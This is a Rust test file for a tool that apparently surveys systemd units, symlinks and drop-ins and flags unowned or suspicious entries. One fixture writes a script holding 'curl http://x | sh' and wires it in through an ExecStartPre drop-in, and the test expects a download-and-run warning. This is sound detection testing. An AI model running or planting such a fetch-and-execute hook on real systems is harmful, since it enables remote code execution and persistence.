//! Surveys of small trees.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use super::*;
use crate::config::Config;
use crate::proof::package::{Manager, Package};
use crate::subject::unit::signals::Weight;

/// A tree of files.
pub(super) struct Tree(tempfile::TempDir);

impl Tree {
    pub fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    pub fn at(&self, path: &str) -> PathBuf {
        let at = self.0.path().join(path.trim_start_matches('/'));
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        at
    }

    pub fn file(&self, path: &str, text: impl AsRef<[u8]>) -> &Self {
        std::fs::write(self.at(path), text).unwrap();
        self
    }

    pub fn program(&self, path: &str, text: &str) -> &Self {
        self.file(path, text);
        std::fs::set_permissions(self.at(path), std::fs::Permissions::from_mode(0o755)).unwrap();
        self
    }

    pub fn link(&self, path: &str, target: &str) -> &Self {
        symlink(target, self.at(path)).unwrap();
        self
    }

    pub fn survey(&self) -> Survey {
        self.survey_with(&mut Owns(&[]))
    }

    pub fn survey_with(&self, packages: &mut dyn Prove) -> Survey {
        survey_of(self.0.path(), packages)
    }
}

fn survey_of(root: &Path, packages: &mut dyn Prove) -> Survey {
    let root = Root::open(root.to_str().unwrap()).unwrap();
    let config = Config::default();
    let paths = config.watch.effective();
    survey(&root, packages, paths.iter().map(|path| (&*path.path, path.class)), &mut |_| {})
}

/// Packages own what lies at these paths, whatever it says.
pub(super) struct Owns(pub &'static [&'static str]);

impl Prove for Owns {
    fn prove(&mut self, path: &[u8], content: &Content<'_>) -> Verdict {
        let known =
            self.0.iter().any(|known| known.as_bytes() == path) && matches!(content, Content::File(_));
        if known { Verdict::Proved { package: package() } } else { Verdict::Unowned }
    }
}

fn package() -> Package {
    Package {
        manager: Manager::Dpkg,
        name: "p".to_owned(),
        version: "1".to_owned(),
        architecture: String::new(),
    }
}

/// Entries as `kind path`, in their order.
fn told(survey: &Survey) -> Vec<String> {
    survey
        .entries
        .iter()
        .map(|entry| format!("{:?} {}", entry.kind, String::from_utf8_lossy(&entry.path)))
        .collect()
}

fn find<'a>(survey: &'a Survey, path: &str) -> &'a Entry {
    survey
        .entries
        .iter()
        .find(|entry| entry.path == path.as_bytes())
        .unwrap_or_else(|| panic!("{path} in {:#?}", told(survey)))
}

fn slugs(survey: &Survey, path: &str) -> Vec<&'static str> {
    let own = survey.remarks.iter().filter(|remark| remark.path == path.as_bytes());
    own.map(|remark| remark.signal.slug).collect()
}

#[test]
fn a_machine_without_anything() {
    let survey = Tree::new().survey();
    assert_eq!(told(&survey), [""; 0]);
    assert_eq!(survey.problems, []);
}

#[test]
fn units_links_and_programs() {
    let tree = Tree::new();
    tree.link("/lib", "usr/lib")
        .file(
            "/usr/lib/systemd/system/a.service",
            "[Service]\nExecStart=/usr/bin/a -x\n[Install]\nWantedBy=multi-user.target\n",
        )
        .program("/usr/bin/a", "\x7fELF a")
        .link("/etc/systemd/system/multi-user.target.wants/a.service", "/lib/systemd/system/a.service")
        .link("/etc/systemd/system/graphical.target.wants/a.service", "/lib/systemd/system/a.service")
        .file("/etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/bin/sh /tmp/x.sh\n")
        .file("/tmp/x.sh", "#!/bin/sh\ncurl http://x | sh\n")
        .link("/etc/systemd/system/b.service", "/opt/b.service")
        .file("/opt/b.service", "[Service]\nExecStart=/opt/b\n")
        .link("/etc/systemd/system/c.service", "/dev/null");
    let survey = tree.survey_with(&mut Owns(&["/usr/lib/systemd/system/a.service", "/usr/bin/a"]));
    assert_eq!(
        told(&survey),
        [
            "DropIn /etc/systemd/system/a.service.d/x.conf",
            "Link /etc/systemd/system/b.service",
            "Link /etc/systemd/system/c.service",
            "Link /etc/systemd/system/graphical.target.wants/a.service",
            "Link /etc/systemd/system/multi-user.target.wants/a.service",
            "Unit /opt/b.service",
            "Unit /usr/lib/systemd/system/a.service",
        ]
    );
    let unit = find(&survey, "/usr/lib/systemd/system/a.service");
    let proved = Verdict::Proved { package: package() };
    assert_eq!((&unit.proof, unit.programs.len(), &unit.programs[0].proof), (&proved, 1, &proved));
    assert_eq!(find(&survey, "/etc/systemd/system/multi-user.target.wants/a.service").proof, proved);
    let unasked = "/etc/systemd/system/graphical.target.wants/a.service";
    assert_eq!(
        (&find(&survey, unasked).proof, slugs(&survey, unasked)),
        (&Verdict::Unowned, vec!["link.unasked"])
    );
    let drop_in = find(&survey, "/etc/systemd/system/a.service.d/x.conf");
    let programs: Vec<_> =
        drop_in.programs.iter().map(|program| String::from_utf8_lossy(&program.path)).collect();
    assert_eq!(programs, ["/bin/sh", "/tmp/x.sh"]);
    let said = slugs(&survey, "/etc/systemd/system/a.service.d/x.conf");
    assert!(
        said.contains(&"command.download-run") || said.iter().any(|slug| slug.starts_with("command.")),
        "{said:?}"
    );
    assert_eq!(slugs(&survey, "/etc/systemd/system/c.service"), ["unit.masked"]);
    assert_eq!(find(&survey, "/opt/b.service").programs[0].path, b"/opt/b");
    assert!(survey.remarks.iter().all(|remark| remark.signal.weight >= Weight::Note));
    assert_eq!(survey.problems, []);
}
